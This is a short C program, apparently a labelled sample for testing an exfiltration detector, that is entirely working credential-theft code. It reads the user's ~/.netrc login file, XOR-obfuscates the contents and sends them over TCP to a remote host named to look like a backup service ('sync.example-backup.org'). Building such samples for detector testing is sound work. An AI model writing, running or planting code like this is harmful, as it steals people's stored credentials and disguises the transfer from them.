// blind-expect: behavior.exfiltration
// Reads ~/.netrc into a global buffer, XOR-obfuscates it and writes it to a TCP connection to a remote server.
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <fcntl.h>
#include <netdb.h>
#include <sys/socket.h>

static unsigned char g_buf[8192];
static size_t g_len;

static void load_netrc(void)
{
    char path[512];
    const char *home = getenv("HOME");
    snprintf(path, sizeof path, "%s/.netrc", home ? home : "");
    int fd = open(path, O_RDONLY);
    if (fd < 0)
        return;
    ssize_t n;
    while (g_len < sizeof g_buf && (n = read(fd, g_buf + g_len, sizeof g_buf - g_len)) > 0)
        g_len += (size_t)n;
    close(fd);
}

static void obfuscate(unsigned char key)
{
    for (size_t i = 0; i < g_len; i++)
        g_buf[i] ^= (unsigned char)(key + i % 7);
}

static int dial(const char *host, const char *port)
{
    struct addrinfo hints, *res;
    memset(&hints, 0, sizeof hints);
    hints.ai_family = AF_INET;
    hints.ai_socktype = SOCK_STREAM;
    if (getaddrinfo(host, port, &hints, &res) != 0)
        return -1;
    int s = socket(res->ai_family, res->ai_socktype, res->ai_protocol);
    if (s >= 0 && connect(s, res->ai_addr, res->ai_addrlen) != 0) {
        close(s);
        s = -1;
    }
    freeaddrinfo(res);
    return s;
}

int main(void)
{
    load_netrc();
    if (g_len == 0)
        return 0;
    obfuscate(0x5A);

    int s = dial("sync.example-backup.org", "8443");
    if (s < 0)
        return 1;
    size_t off = 0;
    while (off < g_len) {
        ssize_t w = write(s, g_buf + off, g_len - off);
        if (w <= 0)
            break;
        off += (size_t)w;
    }
    close(s);
    return 0;
}
